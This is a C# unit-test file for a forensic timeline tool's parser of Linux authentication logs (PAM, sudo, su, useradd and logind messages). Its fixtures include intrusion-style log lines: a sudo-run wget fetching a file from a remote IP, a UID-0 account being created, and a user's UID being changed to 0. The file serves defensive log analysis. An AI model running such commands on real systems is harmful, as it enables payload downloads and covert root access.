using Timeline.Tests.Parsers.Linux.Syslog;
using Xunit;

namespace Timeline.Tests.Parsers.Linux.Auth;

public sealed class AuthGrammarTests
{
    [Theory]
    // PAM, under whatever program logged it
    [InlineData("sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root",
        "event=pam_auth_failure|pam_module=pam_unix|pam_service=sshd|src_ip=203.0.113.45|tty=ssh|uid=0|user=root")]
    [InlineData("sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=scanner.example.org",
        "event=pam_auth_failure|pam_module=pam_unix|pam_service=sshd|src_host=scanner.example.org|tty=ssh|uid=0")]
    [InlineData("sudo: pam_unix(sudo:auth): authentication failure; logname=zbadguy uid=4001 euid=0 tty=/dev/pts/12 ruser=zbadguy rhost=  user=zbadguy",
        "event=pam_auth_failure|logname=zbadguy|pam_module=pam_unix|pam_service=sudo|ruser=zbadguy|tty=/dev/pts/12|uid=4001|user=zbadguy")]
    [InlineData("sshd[1]: pam_unix(sshd:auth): check pass; user unknown",
        "event=pam_check_pass|pam_module=pam_unix|pam_service=sshd|reason=user unknown")]
    [InlineData("sshd[1]: PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root",
        "count=2|event=pam_more_failures|src_ip=203.0.113.45|tty=ssh|uid=0|user=root")]
    [InlineData("sshd[1]: pam_unix(sshd:auth): 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root",
        "count=2|event=pam_more_failures|pam_module=pam_unix|pam_service=sshd|src_ip=203.0.113.45|tty=ssh|uid=0|user=root")]
    [InlineData("sshd[1]: PAM 1 more authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.45  user=root",
        "count=1|event=pam_more_failures|src_ip=203.0.113.45|tty=ssh|uid=0|user=root")]
    [InlineData("sshd[1]: pam_unix(sshd:session): session opened for user root(uid=0) by root(uid=0)",
        "by_uid=0|by_user=root|event=session_open|pam_module=pam_unix|pam_service=sshd|uid=0|user=root")]
    [InlineData("CRON[7]: pam_unix(cron:session): session opened for user root by (uid=0)",
        "by_uid=0|event=session_open|pam_module=pam_unix|pam_service=cron|user=root")]
    [InlineData("sshd[1]: pam_unix(sshd:session): session closed for user root",
        "event=session_close|pam_module=pam_unix|pam_service=sshd|user=root")]
    [InlineData("passwd[9]: pam_unix(passwd:chauthtok): password changed for bob",
        "event=password_change|pam_module=pam_unix|pam_service=passwd|user=bob")]
    [InlineData("sudo: pam_tally2(sudo:auth): user zbadguy (4001) tally 6, deny 5",
        "count=6|event=pam_tally|pam_module=pam_tally2|pam_service=sudo|uid=4001|user=zbadguy")]
    [InlineData("su[9]: pam_authenticate: Authentication failure", "event=pam_auth_failure|reason=Authentication failure")]
    [InlineData("sshd[1]: pam_systemd(sshd:session): Failed to create session: No such file", "event=other|pam_module=pam_systemd|pam_service=sshd")]
    // sudo
    [InlineData("sudo:   ubuntu : TTY=pts/0 ; PWD=/home/ubuntu ; USER=root ; COMMAND=/usr/bin/wget http://198.51.100.9/x",
        "command=/usr/bin/wget http://198.51.100.9/x|event=sudo|pwd=/home/ubuntu|target_user=root|tty=pts/0|user=ubuntu")]
    [InlineData("sudo[5]:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
        "command=/bin/bash|count=3|event=sudo_failed|pwd=/home/alice|reason=3 incorrect password attempts|target_user=root|tty=pts/0|user=alice")]
    [InlineData("sudo:      bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/ls",
        "command=/bin/ls|event=sudo_failed|pwd=/home/bob|reason=user NOT in sudoers|target_user=root|tty=pts/1|user=bob")]
    [InlineData("sudo: alice : TTY=pts/0 ; PWD=/ ; USER=root ; GROUP=wheel ; ENV=A=1 ; COMMAND=/bin/sh -c 'a ; b'",
        "command=/bin/sh -c 'a ; b'|event=sudo|pwd=/|target_group=wheel|target_user=root|tty=pts/0|user=alice")]
    [InlineData("sudo: unable to resolve host web01: Name or service not known", "event=other")]
    // su
    [InlineData("su[4120]: (to root) alice on pts/0", "event=su|target_user=root|tty=pts/0|user=alice")]
    [InlineData("su[4121]: FAILED SU (to root) alice on pts/1", "event=su_failed|target_user=root|tty=pts/1|user=alice")]
    [InlineData("su[4122]: Successful su for root by alice", "event=su|target_user=root|user=alice")]
    [InlineData("su[4123]: - /dev/pts/0 alice:root", "event=su_failed|target_user=root|tty=/dev/pts/0|user=alice")]
    // shadow-utils
    [InlineData("useradd[1337]: new user: name=john, UID=0, GID=0, home=/home/john, shell=/bin/bash",
        "event=user_add|gid=0|home=/home/john|shell=/bin/bash|uid=0|user=john")]
    [InlineData("useradd[1337]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash, from=/dev/pts/0",
        "event=user_add|gid=1001|home=/home/bob|shell=/bin/bash|tty=/dev/pts/0|uid=1001|user=bob")]
    [InlineData("groupadd[2300]: new group: name=miners, GID=1002", "event=group_add|gid=1002|group=miners")]
    [InlineData("usermod[2302]: add 'bob' to group 'sudo'", "event=group_member_add|group=sudo|user=bob")]
    [InlineData("usermod[2302]: add 'bob' to shadow group 'sudo'", "event=group_member_add|group=sudo|user=bob")]
    [InlineData("userdel[2310]: delete user 'akay'", "event=user_delete|user=akay")]
    [InlineData("userdel[2310]: delete 'bob' from group 'sudo'", "event=group_member_delete|group=sudo|user=bob")]
    [InlineData("groupdel[2311]: group 'miners' removed", "event=group_delete|group=miners")]
    [InlineData("usermod[2302]: change user 'bob' UID from '1001' to '0'", "event=user_modify|reason=change UID|uid=0|user=bob")]
    [InlineData("usermod[2302]: change user name 'bob' to 'bobby'", "event=user_modify|reason=change user name|target_user=bobby|user=bob")]
    [InlineData("usermod[2302]: change user 'bob' password", "event=password_change|user=bob")]
    [InlineData("passwd[2303]: password for 'bob' changed by 'root'", "by_user=root|event=password_change|user=bob")]
    [InlineData("chpasswd[2306]: pam_unix(chpasswd:chauthtok): password changed for root",
        "event=password_change|pam_module=pam_unix|pam_service=chpasswd|user=root")]
    [InlineData("useradd[2307]: failed adding user 'x', exit code: 9", "event=other")]
    // systemd-logind
    [InlineData("systemd-logind[811]: New session 7 of user root.", "event=logind_new_session|session_id=7|user=root")]
    [InlineData("systemd-logind[811]: New session c1 of user ubuntu.", "event=logind_new_session|session_id=c1|user=ubuntu")]
    [InlineData("systemd-logind[811]: New session '4' of user 'x' with class 'user' and type 'tty'.", "event=logind_new_session|session_id=4|user=x")]
    [InlineData("systemd-logind[811]: Session 7 logged out. Waiting for processes to exit.", "event=logind_logged_out|session_id=7")]
    [InlineData("systemd-logind[811]: Removed session 7.", "event=logind_session_removed|session_id=7")]
    [InlineData("systemd-logind[811]: Watching system buttons on /dev/input/event0 (Power Button)", "event=other")]
    public void AuthMessageGivesItsFields(string tagAndMessage, string expected)
    {
        var e = SyslogLines.One("Mar  2 03:15:02 web01 " + tagAndMessage);
        Assert.Equal("linux/auth", e.Parser);
        Assert.Equal(expected, SyslogLines.Fields(e));
    }

    [Fact]
    public void PamLinesUnderCronAreAuthEventsWhileCronCommandsAreCronEvents()
    {
        var outcome = SyslogLines.Parse(
            "Mar  2 03:17:01 web01 CRON[4242]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n" +
            "Mar  2 03:17:01 web01 CRON[4243]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)\n");
        Assert.Equal(["linux/auth", "linux/cron"], outcome.Events.Select(e => e.Parser));
    }
}
